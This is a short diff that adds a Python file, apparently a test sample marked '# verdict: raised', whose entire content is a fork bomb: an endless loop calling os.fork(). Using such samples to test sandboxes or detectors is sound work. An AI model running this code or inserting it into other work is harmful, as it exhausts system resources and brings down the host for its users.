@@ -1,0 +1,4 @@
+# verdict: raised
+import os
+while True:
+    os.fork()
